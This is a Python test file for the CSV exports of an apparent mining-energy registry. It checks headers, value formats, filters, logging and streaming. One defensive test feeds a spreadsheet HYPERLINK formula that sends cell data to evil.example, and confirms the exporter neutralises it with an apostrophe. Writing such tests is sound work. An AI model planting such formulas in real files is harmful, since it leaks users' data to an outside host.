"""The CSV exports (docs/rules.md, "Exports"): UTF-8 with BOM, one header row, ISO values, no spreadsheet formulas."""

import csv
import datetime as dt
import io
import json
import re
from decimal import Decimal

import pytest
from django.db import connection as db_connection
from django.test.utils import CaptureQueriesContext

from registry.exports import DATASETS, ExportFilters
from registry.models import (
    ExportLog,
    Facility,
    Firm,
    GridConnection,
    MeterReading,
)
from registry.services.declarations import declaration_file
from registry.services.exports import export_prepare, export_start
from tests.factories import (
    BIN_A,
    BIN_B,
    EnforcementActionFactory,
    FacilityFactory,
    FirmFactory,
    FlagFactory,
    FlagMeterFactory,
    GridConnectionFactory,
    InspectionFactory,
    LicenceFactory,
)

UTC = dt.UTC
BOM = "\ufeff".encode()
ISO_INSTANT = re.compile(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?Z$")


# What users and other systems rely on: the header row of each dataset.
HEADERS = {
    "firms": "bin,name,region,address,email,origin,created_at",
    "facilities": "ref,firm_bin,name,region,address,latitude,longitude,meter_ids,capacity_mw,devices",
    "licences": "number,firm_bin,firm_name,facility_refs,capacity_mw,valid_from,valid_until,status,subtype",
    "declarations": "facility_ref,firm_bin,month,consumed_mwh,peak_mw,devices,power_source,is_current,filed_at",
    "connections": "meter_id,operator,consumer_name,consumer_bin,region,address,tariff,contracted_mw,parent_meter_id",
    "readings": "meter_id,period_start,kwh",
    "flags": "rule,severity,status,meter_ids,subject_type,subject_ref,month,window_start,window_end,evidence,"
    "created_at,updated_at,decision_reason",
    "inspections": "date,facility_ref,meter_id,operator_bin,operator_name,outcome,devices_found,findings,inspectors",
    "enforcement": "action,operator_bin,operator_name,region,date,devices,value_usd,case_number,fine_kzt,"
    "facility_ref,meter_id,notes",
    "audit": "at,model,object_id,action,changes,values,context",
}


def export_bytes(dataset: str, **filters) -> bytes:
    chosen_filters = ExportFilters(**filters)
    chosen = export_prepare(dataset_name=dataset, filters=chosen_filters)
    return b"".join(export_start(dataset=chosen, filters=chosen_filters, actor="pytest"))


def export_rows(dataset: str, **filters) -> list[list[str]]:
    """Export a dataset and read it back as a spreadsheet would: header row first."""
    data = export_bytes(dataset, **filters)
    assert data.startswith(BOM), "the export starts with a UTF-8 BOM"
    return list(csv.reader(io.StringIO(data[len(BOM) :].decode("utf-8"), newline="")))


def export_dicts(dataset: str, **filters) -> list[dict[str, str]]:
    header, *rows = export_rows(dataset, **filters)
    return [dict(zip(header, row, strict=True)) for row in rows]


def reading(meter_id: str, when: dt.datetime, kwh) -> MeterReading:
    return MeterReading.objects.create(
        connection=GridConnection.objects.get(meter_id=meter_id), period_start=when, kwh=Decimal(kwh)
    )


@pytest.fixture
def facility_a(firm_a):
    return firm_a.facilities.get()


# Every dataset


def test_every_dataset_is_known():
    assert sorted(DATASETS) == sorted(HEADERS)


@pytest.mark.parametrize("dataset", list(DATASETS))
def test_every_dataset_starts_with_a_bom_and_one_header_row(firm_a, firm_b, dataset):
    data = export_bytes(dataset)

    assert data.startswith(BOM)
    assert data.count(BOM) == 1
    header = next(csv.reader(io.StringIO(data[len(BOM) :].decode("utf-8"), newline="")))
    assert header == HEADERS[dataset].split(",")


@pytest.mark.parametrize("dataset", list(DATASETS))
def test_every_export_is_logged_with_its_row_count(firm_a, firm_b, dataset):
    rows = export_rows(dataset)

    entry = ExportLog.objects.get(dataset=dataset)
    assert (entry.actor, entry.filters, entry.row_count) == ("pytest", {}, len(rows) - 1)


# Values, dataset by dataset


def test_firms_export(firm_a, firm_b):
    Firm.objects.filter(pk=firm_a.pk).update(address="Павлодар, ул. Кривенко 25", email="office@alpha.kz")

    rows = export_dicts("firms")

    assert [{k: v for k, v in row.items() if k != "created_at"} for row in rows] == [
        {
            "bin": BIN_A,
            "name": "Alpha Mining LLP",
            "region": "pavlodar",
            "address": "Павлодар, ул. Кривенко 25",
            "email": "office@alpha.kz",
            "origin": "registered",
        },
        {
            "bin": BIN_B,
            "name": "Beta Hash TOO",
            "region": "karaganda",
            "address": "",
            "email": "",
            "origin": "registered",
        },
    ]
    assert all(ISO_INSTANT.match(row["created_at"]) for row in rows)


def test_facilities_export_joins_meter_ids_with_semicolons(firm_a, firm_b, facility_a):
    facility_a.connections.add(GridConnectionFactory(meter_id="PV-0"))
    Facility.objects.filter(pk=facility_a.pk).update(latitude=Decimal("52.3"), longitude=Decimal("76.95"), devices=3200)

    _, *rows = export_rows("facilities")

    assert rows == [
        ["FAC-A1", BIN_A, "Alpha site 1", "pavlodar", "", "52.300000", "76.950000", "PV-0;PV-0001", "10.000", "3200"],
        ["FAC-B1", BIN_B, "Beta site", "karaganda", "", "", "", "", "4.000", ""],
    ]


def test_licences_export(firm_a, firm_b):
    LicenceFactory(firm=firm_b, capacity_mw=4, status="applied", subtype="II", facilities=[firm_b.facilities.get()])

    _, *rows = export_rows("licences")

    assert rows == [
        ["KZ-DM-2024-000001", BIN_A, "Alpha Mining LLP", "FAC-A1", "10.000", "2024-01-01", "2026-12-31", "active", "I"],
        ["", BIN_B, "Beta Hash TOO", "FAC-B1", "4.000", "", "", "applied", "II"],
    ]


def test_declarations_export_shows_months_and_corrections(facility_a):
    declaration_file(facility=facility_a, month=dt.date(2025, 1, 1), consumed_mwh=Decimal("6800.5"), devices=3000)
    declaration_file(facility=facility_a, month=dt.date(2025, 1, 1), consumed_mwh=Decimal("7000"), devices=3000)
    declaration_file(
        facility=facility_a,
        month=dt.date(2025, 2, 1),
        consumed_mwh=Decimal("10"),
        peak_mw=Decimal("0.5"),
        power_source="own_renewable",
    )

    rows = export_dicts("declarations")

    assert [{k: v for k, v in row.items() if k != "filed_at"} for row in rows] == [
        {
            "facility_ref": "FAC-A1",
            "firm_bin": BIN_A,
            "month": "2025-01",
            "consumed_mwh": "6800.500",
            "peak_mw": "",
            "devices": "3000",
            "power_source": "grid_exchange",
            "is_current": "false",
        },
        {
            "facility_ref": "FAC-A1",
            "firm_bin": BIN_A,
            "month": "2025-01",
            "consumed_mwh": "7000.000",
            "peak_mw": "",
            "devices": "3000",
            "power_source": "grid_exchange",
            "is_current": "true",
        },
        {
            "facility_ref": "FAC-A1",
            "firm_bin": BIN_A,
            "month": "2025-02",
            "consumed_mwh": "10.000",
            "peak_mw": "0.500",
            "devices": "",
            "power_source": "own_renewable",
            "is_current": "true",
        },
    ]
    assert all(ISO_INSTANT.match(row["filed_at"]) for row in rows)


def test_connections_export(firm_a):
    GridConnectionFactory(
        meter_id="KR-0009",
        operator="Караганды Жарык",
        consumer_name="Ахметов Б.",
        consumer_bin=BIN_B,
        region="karaganda",
        address="с. Ботакара",
        tariff="residential",
        contracted_mw=Decimal("0.015"),
        parent=GridConnection.objects.get(meter_id="PV-0001"),
    )

    _, *rows = export_rows("connections")

    assert rows == [
        [
            "KR-0009",
            "Караганды Жарык",
            "Ахметов Б.",
            BIN_B,
            "karaganda",
            "с. Ботакара",
            "residential",
            "0.015",
            "PV-0001",
        ],
        ["PV-0001", "Pavlodar REC", "", "", "pavlodar", "", "industrial", "", ""],
    ]


def test_readings_export_writes_utc_instants(firm_a):
    almaty = dt.timezone(dt.timedelta(hours=5))
    reading("PV-0001", dt.datetime(2025, 3, 1, 5, tzinfo=almaty), "1250.5")
    reading("PV-0001", dt.datetime(2025, 3, 1, 1, tzinfo=UTC), "0")

    _, *rows = export_rows("readings")

    assert rows == [
        ["PV-0001", "2025-03-01T00:00:00Z", "1250.500"],
        ["PV-0001", "2025-03-01T01:00:00Z", "0.000"],
    ]


def test_flags_export(firm_a):
    FlagFactory(
        rule="UNDER_DECLARED",
        severity="medium",
        facility=firm_a.facilities.get(),
        month=dt.date(2025, 4, 1),
        window_start=dt.datetime(2025, 4, 10, tzinfo=UTC),
        window_end=dt.datetime(2025, 5, 10, tzinfo=UTC),
        evidence={"declared_mwh": "100.000", "metered_mwh": "250.000"},
    )

    (row,) = export_dicts("flags")

    assert {k: row[k] for k in ("rule", "severity", "status", "subject_type", "subject_ref", "month")} == {
        "rule": "UNDER_DECLARED",
        "severity": "medium",
        "status": "open",
        "subject_type": "facility",
        "subject_ref": "FAC-A1",
        "month": "2025-04",
    }
    assert (row["window_start"], row["window_end"]) == ("2025-04-10T00:00:00Z", "2025-05-10T00:00:00Z")
    assert json.loads(row["evidence"]) == {"declared_mwh": "100.000", "metered_mwh": "250.000"}
    assert ISO_INSTANT.match(row["created_at"])
    assert row["meter_ids"] == ""


def test_flags_export_names_every_meter_subject_first_then_by_meter_id(db):
    transformer = GridConnectionFactory(meter_id="TP-0900")
    balance = FlagFactory(rule="ENERGY_BALANCE", connection=transformer)
    FlagMeterFactory(flag=balance, connection=transformer, role="subject")
    for meter_id in ("TP-0903", "TP-0901", "TP-0902"):
        FlagMeterFactory(flag=balance, connection=GridConnectionFactory(meter_id=meter_id), role="child")
    group = [GridConnectionFactory(meter_id=meter_id) for meter_id in ("AB-12-2", "AB-12-1")]
    split = FlagFactory(rule="SPLIT_LOAD", connection=group[0], subject_ref="abai 12")
    for meter in group:
        FlagMeterFactory(flag=split, connection=meter, role="member")

    rows = export_dicts("flags")

    assert {row["rule"]: row["meter_ids"] for row in rows} == {
        "ENERGY_BALANCE": "TP-0900;TP-0901;TP-0902;TP-0903",
        "SPLIT_LOAD": "AB-12-1;AB-12-2",
    }
    assert list(rows[0])[:4] == ["rule", "severity", "status", "meter_ids"]


def test_inspections_export_lists_the_inspectors(firm_b, inspector, regulator):
    inspection = InspectionFactory(
        facility=firm_b.facilities.get(),
        firm=firm_b,
        date=dt.date(2022, 9, 14),
        findings="2 400 ASIC на объекте",
        devices_found=2400,
        outcome="illegal_operation",
    )
    inspection.inspectors.add(regulator, inspector)

    _, *rows = export_rows("inspections")

    assert rows == [
        [
            "2022-09-14",
            "FAC-B1",
            "",
            BIN_B,
            "Beta Hash TOO",
            "illegal_operation",
            "2400",
            "2 400 ASIC на объекте",
            "ivan;rita",
        ],
    ]


def test_enforcement_export(firm_b):
    EnforcementActionFactory(
        action="equipment_confiscated",
        firm=firm_b,
        facility=firm_b.facilities.get(),
        region="karaganda",
        date=dt.date(2022, 9, 20),
        devices=2400,
        value_usd=Decimal("6900000.00"),
    )
    EnforcementActionFactory(
        action="criminal_case", firm=firm_b, region="karaganda", date=dt.date(2022, 9, 21), case_number="2255-0001"
    )

    rows = export_dicts("enforcement")

    contract_columns = ("action", "operator_bin", "operator_name", "region", "date", "devices", "value_usd")
    assert [{k: row[k] for k in (*contract_columns, "case_number", "facility_ref")} for row in rows] == [
        {
            "action": "equipment_confiscated",
            "operator_bin": BIN_B,
            "operator_name": "Beta Hash TOO",
            "region": "karaganda",
            "date": "2022-09-20",
            "devices": "2400",
            "value_usd": "6900000.00",
            "case_number": "",
            "facility_ref": "FAC-B1",
        },
        {
            "action": "criminal_case",
            "operator_bin": BIN_B,
            "operator_name": "Beta Hash TOO",
            "region": "karaganda",
            "date": "2022-09-21",
            "devices": "",
            "value_usd": "",
            "case_number": "2255-0001",
            "facility_ref": "",
        },
    ]


def test_audit_export_shows_inserts_with_their_values(firm_a):
    rows = export_dicts("audit")

    firm_rows = [row for row in rows if row["model"] == "registry.Firm" and row["object_id"] == str(firm_a.pk)]
    assert [row["action"] for row in firm_rows] == ["insert"]
    assert json.loads(firm_rows[0]["values"])["name"] == "Alpha Mining LLP"
    assert ISO_INSTANT.match(firm_rows[0]["at"])


# Formula injection


@pytest.mark.parametrize(
    "name",
    ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1", "-2", "@x", "\tfoo", "\rbar"],
    ids=["equals", "plus", "minus", "at", "tab", "carriage-return"],
)
def test_a_text_cell_that_could_be_a_formula_gets_an_apostrophe(db, name):
    FirmFactory(name=name, region="astana", address="=1+1")

    (row,) = export_dicts("firms")

    assert row["name"] == "'" + name
    assert row["address"] == "'=1+1"


def test_an_ordinary_text_cell_is_left_alone(db):
    FirmFactory(name="ТОО 'Кен' = ok, +7 727", region="astana")

    (row,) = export_dicts("firms")

    assert row["name"] == "ТОО 'Кен' = ok, +7 727"


def test_numbers_are_not_prefixed_even_when_negative(firm_a):
    FacilityFactory(
        ref="FAC-SOUTH",
        firm=firm_a,
        name="-South",
        region="almaty",
        latitude=Decimal("-33.9"),
        longitude=Decimal("-70.5"),
        capacity_mw=0,
    )

    row = next(row for row in export_dicts("facilities") if row["ref"] == "FAC-SOUTH")

    assert (row["latitude"], row["longitude"], row["capacity_mw"]) == ("-33.900000", "-70.500000", "0.000")
    assert row["name"] == "'-South"


# Filters


def test_region_filter(firm_a, firm_b):
    rows = export_dicts("firms", region="karaganda")

    assert [row["bin"] for row in rows] == [BIN_B]


def test_region_filter_on_flags_follows_the_subject(firm_a, firm_b):
    FlagFactory(rule="NO_VALID_LICENCE", facility=firm_b.facilities.get())
    FlagFactory(rule="OVER_CAPACITY", severity="medium", licence=firm_a.licences.get())

    rows = export_dicts("flags", region="pavlodar")

    assert [row["subject_ref"] for row in rows] == ["KZ-DM-2024-000001"]


def test_status_filter(firm_a, firm_b):
    LicenceFactory(firm=firm_b, capacity_mw=4, status="applied")

    rows = export_dicts("licences", status="active")

    assert [row["number"] for row in rows] == ["KZ-DM-2024-000001"]


def test_date_filter_includes_both_ends(firm_b):
    for day in (dt.date(2022, 8, 31), dt.date(2022, 9, 1), dt.date(2022, 9, 30), dt.date(2022, 10, 1)):
        EnforcementActionFactory(action="fine", fine_kzt=1, firm=firm_b, region="karaganda", date=day)

    rows = export_dicts("enforcement", date_from=dt.date(2022, 9, 1), date_to=dt.date(2022, 9, 30))

    assert [row["date"] for row in rows] == ["2022-09-01", "2022-09-30"]


def test_date_filter_on_instants_takes_whole_utc_days(firm_a):
    for when in ("2025-01-01T23:00", "2025-01-02T00:00", "2025-01-02T23:00", "2025-01-03T00:00"):
        reading("PV-0001", dt.datetime.fromisoformat(when).replace(tzinfo=UTC), "1")

    rows = export_dicts("readings", date_from=dt.date(2025, 1, 2), date_to=dt.date(2025, 1, 2))

    assert [row["period_start"] for row in rows] == ["2025-01-02T00:00:00Z", "2025-01-02T23:00:00Z"]


def test_date_filter_on_declarations_takes_months(facility_a):
    for month in (1, 2, 3):
        declaration_file(facility=facility_a, month=dt.date(2025, month, 1), consumed_mwh=Decimal(month))

    rows = export_dicts("declarations", date_from=dt.date(2025, 2, 1), date_to=dt.date(2025, 3, 1))

    assert [row["month"] for row in rows] == ["2025-02", "2025-03"]


def test_meter_filter_on_readings(firm_a):
    GridConnectionFactory(meter_id="PV-0002")
    hour = dt.datetime(2025, 1, 1, tzinfo=UTC)
    reading("PV-0001", hour, "1")
    reading("PV-0002", hour, "2")

    rows = export_dicts("readings", meter="PV-0002")

    assert [(row["meter_id"], row["kwh"]) for row in rows] == [("PV-0002", "2.000")]


def test_filters_are_logged(firm_a):
    export_rows("firms", region="pavlodar", date_from=dt.date(2024, 1, 1))

    entry = ExportLog.objects.get()
    assert entry.filters == {"region": "pavlodar", "date_from": "2024-01-01"}
    assert entry.row_count == 1


# Streaming


def test_the_number_of_queries_does_not_grow_with_the_rows(firm_a):
    def queries_for_facilities_export() -> int:
        with CaptureQueriesContext(db_connection) as queries:
            export_bytes("facilities")
        return len(queries)

    few = queries_for_facilities_export()
    FacilityFactory.create_batch(30, firm=firm_a)

    many = queries_for_facilities_export()

    assert many == few


def test_the_flags_export_takes_the_same_queries_for_any_number_of_flags_and_meters(db):
    def queries_for_flags_export() -> int:
        with CaptureQueriesContext(db_connection) as queries:
            export_bytes("flags")
        return len(queries)

    FlagMeterFactory()
    few = queries_for_flags_export()
    for _ in range(10):
        flag = FlagMeterFactory().flag
        FlagMeterFactory.create_batch(3, flag=flag, role="member")

    many = queries_for_flags_export()

    assert many == few
